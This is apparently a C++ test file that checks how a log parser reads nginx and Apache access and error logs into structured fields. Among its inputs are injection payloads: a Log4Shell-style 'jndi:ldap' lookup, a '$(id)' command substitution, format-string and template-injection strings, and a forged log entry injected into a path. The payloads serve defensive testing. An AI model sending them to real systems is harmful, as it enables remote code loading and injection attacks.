// Access and error logs of web servers.

#include "tests/parsers/payload_case.h"

namespace vigil {
namespace {

constexpr PayloadCase kAccess[] = {
    {"combined, over syslog",
     "<190>Nov 20 14:59:00 web1 nginx: 203.0.113.9 - - [20/Nov/2026:14:59:00 +0800] \"GET /a.php?id=1 "
     "HTTP/1.1\" 404 153 \"http://x/\" \"sqlmap/1.7\"",
     "format=access_log | source.ip=203.0.113.9 | http.request.method=GET | url.original=/a.php?id=1 | "
     "url.path=/a.php | url.query=id=1 | "
     "http.response.status_code=404 | http.response.body.bytes=153 | http.request.referrer=http://x/ | "
     "user_agent.original=sqlmap/1.7 | "
     "http.version=1.1 | event.category=web | event.outcome=failure | source=nginx/webserver/ | kinds=web"},
    {"common",
     "<190>Nov 20 14:59:00 web1 apache2: 203.0.113.9 - ann [20/Nov/2026:14:59:00 +0800] \"POST /login "
     "HTTP/1.1\" 302 -",
     "user.name=ann | http.response.status_code=302 | !http.response.body.bytes | event.outcome=success | "
     "source=apache/webserver/"},
    {"bare, with its own time", "203.0.113.9 - - [20/Nov/2026:14:59:00 +0800] \"GET / HTTP/1.1\" 200 5",
     "time=1795157940000000000 | source=/webserver/"},
    {"its zone counts", "203.0.113.9 - - [20/Nov/2026:06:59:00 +0000] \"GET / HTTP/1.1\" 200 5",
     "time=1795157940000000000"},
    {"a virtual host in front",
     "<190>Nov 20 14:59:00 web1 apache2: www.example.edu.tw:443 203.0.113.9 - - [20/Nov/2026:14:59:00 +0800] "
     "\"GET / HTTP/1.1\" 200 5",
     "url.domain=www.example.edu.tw | url.port=443 | source.ip=203.0.113.9"},
    {"a virtual host, bare",
     "www.example.edu.tw:443 203.0.113.9 - - [20/Nov/2026:14:59:00 +0800] \"GET / HTTP/1.1\" 200 5",
     "url.domain=www.example.edu.tw | url.port=443 | source.ip=203.0.113.9 | !process.name"},
    {"IPv6, bare", "2001:db8::7 - - [20/Nov/2026:14:59:00 +0800] \"GET / HTTP/1.1\" 200 5",
     "source.ip=2001:db8::7"},
    {"IPv6 that begins with letters, bare",
     "fe80::7 - - [20/Nov/2026:14:59:00 +0800] \"GET / HTTP/1.1\" 200 5",
     "source.ip=fe80::7 | !process.name"},
    {"IPv6 loopback, bare", "::1 - - [20/Nov/2026:14:59:00 +0800] \"GET / HTTP/1.1\" 200 5", "source.ip=::1"},
    {"a chain of proxies",
     "<190>Nov 20 14:59:00 web1 nginx: 203.0.113.9, 10.0.0.1, 10.0.0.2 - - [20/Nov/2026:14:59:00 +0800] "
     "\"GET / HTTP/1.1\" 200 5",
     "source.ip=203.0.113.9 | vendor.forwarded=10.0.0.1, 10.0.0.2"},
    {"a name for a client",
     "<190>Nov 20 14:59:00 web1 nginx: pc7 - - [20/Nov/2026:14:59:00 +0800] \"GET / HTTP/1.1\" 200 5",
     "source.domain=pc7 | !source.ip"},
    {"a user with a blank",
     "<190>Nov 20 14:59:00 web1 nginx: 10.0.0.1 - a b [20/Nov/2026:14:59:00 +0800] \"GET / HTTP/1.1\" 401 5",
     "user.name=a b"},
    {"a quote inside the agent",
     "<190>Nov 20 14:59:00 web1 nginx: 10.0.0.1 - - [20/Nov/2026:14:59:00 +0800] \"GET / HTTP/1.1\" 200 5 "
     "\"-\" \"x\\\" 200 \\\"y\"",
     "user_agent.original=x\\\" 200 \\\"y | !http.request.referrer"},
    {"a blank in the url",
     "<190>Nov 20 14:59:00 web1 nginx: 10.0.0.1 - - [20/Nov/2026:14:59:00 +0800] \"GET /a b?c d HTTP/1.1\" "
     "400 5",
     "url.path=/a b | url.query=c d"},
    {"no version",
     "<190>Nov 20 14:59:00 web1 nginx: 10.0.0.1 - - [20/Nov/2026:14:59:00 +0800] \"GET /old\" 400 5",
     "url.original=/old | http.request.method=GET"},
    {"a TLS hello",
     "<190>Nov 20 14:59:00 web1 nginx: 10.0.0.1 - - [20/Nov/2026:14:59:00 +0800] \"\\x16\\x03\\x01\\x02\" "
     "400 5 \"-\" \"-\"",
     "url.original=\\x16\\x03\\x01\\x02 | !http.request.method | http.response.status_code=400"},
    {"no request", "<190>Nov 20 14:59:00 web1 nginx: 10.0.0.1 - - [20/Nov/2026:14:59:00 +0800] \"-\" 408 0",
     "!url.original | http.response.status_code=408"},
    {"an empty request",
     "<190>Nov 20 14:59:00 web1 nginx: 10.0.0.1 - - [20/Nov/2026:14:59:00 +0800] \"\" 400 0",
     "!url.original | http.response.status_code=400"},
    {"a proxy's whole url",
     "<190>Nov 20 14:59:00 web1 nginx: 10.0.0.1 - - [20/Nov/2026:14:59:00 +0800] \"GET "
     "http://a.example:8080/b?c HTTP/1.1\" 200 5",
     "url.domain=a.example | url.port=8080 | url.path=/b | url.query=c"},
    {"cut inside the request",
     "<190>Nov 20 14:59:00 web1 nginx: 10.0.0.1 - - [20/Nov/2026:14:59:00 +0800] \"GET /aaaa",
     "url.original=/aaaa | !http.response.status_code"},
    {"no status",
     "<190>Nov 20 14:59:00 web1 nginx: 10.0.0.1 - - [20/Nov/2026:14:59:00 +0800] \"GET / HTTP/1.1\" abc",
     "!http.response.status_code"},
    {"an impossible date is no time", "10.0.0.1 - - [99/Nov/2026:14:59:00 +0800] \"GET / HTTP/1.1\" 200 5",
     "format=access_log | time=1795158000000000000"},
    {"BI-41 inert text",
     "<190>Nov 20 14:59:00 web1 nginx: 10.0.0.1 - - [20/Nov/2026:14:59:00 +0800] \"GET /${jndi:ldap://x/a} "
     "HTTP/1.1\" 404 5 \"-\" \"%n%s$(id){{7*7}}\"",
     "url.path=/${jndi:ldap://x/a} | user_agent.original=%n%s$(id){{7*7}}"},
};
TEST(PayloadAccessLog, ReadsCommonCombinedAndVirtualHosts) { check_all(kAccess); }

constexpr PayloadCase kErrors[] = {
    {"Apache, an unknown user",
     "[Sat Jul 20 21:40:33.803528 2026] [auth_basic:error] [pid 17540:tid 140] [client 203.0.113.9:51395] "
     "AH01618: user bob not found: /private",
     "format=web_error | source.ip=203.0.113.9 | source.port=51395 | user.name=bob | "
     "event.category=authentication | event.outcome=failure | "
     "event.code=AH01618 | process.pid=17540 | log.level=error | source=apache//error | kinds=web logon"},
    {"Apache, IPv6 in brackets",
     "[Sat Jul 20 21:40:33.803528 2026] [authz_core:error] [pid 1] [client [2001:db8::7]:51548] AH01630: "
     "client denied by server configuration: /srv/x",
     "source.ip=2001:db8::7 | file.path=/srv/x | !event.outcome"},
    {"Apache over syslog",
     "<187>Nov 20 14:59:00 web1 httpd[22]: [authz_core:error] [pid 22] [client 203.0.113.9:58585] AH01630: "
     "client denied by server configuration: /srv/",
     "source.ip=203.0.113.9"},
    {"a forged client in the path",
     "[Sat Jul 20 21:40:33 2026] [error] [client 203.0.113.9] File does not exist: /srv/[client 10.0.0.1] "
     "user root not found",
     "source.ip=203.0.113.9 | !user.name"},
    {"nginx before a mail server",
     R"(2026/11/20 14:59:00 [info] 8#8: *6631 client login failed: "Authentication credentials invalid" while in http auth state, client: 203.0.113.9, server: 0.0.0.0:25, login: "ann@example.org")",
     "event.category=authentication | event.outcome=failure | event.action=mail_login | user.name=ann@example.org | source.ip=203.0.113.9"},
    {"nginx, a wrong password",
     "<187>Nov 20 14:59:00 web1 nginx: 2026/11/20 14:59:00 [error] 31#31: *46 user \"ann b\": password "
     "mismatch, client: 203.0.113.9, server: x, request: \"GET /p HTTP/1.1\", host: \"www.example.edu.tw\"",
     "user.name=ann b | source.ip=203.0.113.9 | event.outcome=failure | url.path=/p | "
     "url.domain=www.example.edu.tw | source=nginx//error"},
    {"nginx, a missing file",
     "2026/11/20 14:59:00 [error] 31#31: *46 open() \"/srv/x\" failed (2: No such file or directory), "
     "client: 203.0.113.9, server: x, request: \"GET /x HTTP/1.1\"",
     "source.ip=203.0.113.9 | log.level=error | !user.name | http.request.method=GET"},
    {"a bracket is not enough", "<14>Nov 20 14:59:00 h app: [error] something went wrong",
     "format=none | tag=unparsed"},
};
TEST(PayloadWebError, NamesWhoKnockedInVain) { check_all(kErrors); }

}  // namespace
}  // namespace vigil
